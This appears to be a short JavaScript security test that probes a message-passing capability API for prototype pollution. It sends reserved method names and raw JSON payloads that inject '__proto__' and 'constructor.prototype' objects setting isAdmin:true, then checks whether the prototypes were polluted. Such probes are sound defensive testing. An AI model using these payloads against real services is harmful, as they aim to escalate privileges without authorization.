attack(async () => {
  let id = 1_000
  for (const method of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'])
    raw({ t: 'call', id: id++, method, params: { verb: method, args: [] } })
  raw(
    Buffer.from(
      '{"t":"event","method":"log","params":{"level":"info","message":"x","__proto__":{"isAdmin":true}}}',
    ),
  )
  raw(
    Buffer.from(
      '{"t":"call","id":5000,"method":"capability","params":{"verb":"storage.set","args":["k",{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}]}}',
    ),
  )
  await pause(200)
  const back = await ctx.storage.get('k')
  say('prototype of what comes back', Object.getPrototypeOf(back ?? {})?.isAdmin ? 'GOT isAdmin' : 'nothing')
  say('prototype of all', {}.isAdmin ? 'GOT isAdmin' : 'nothing')
})
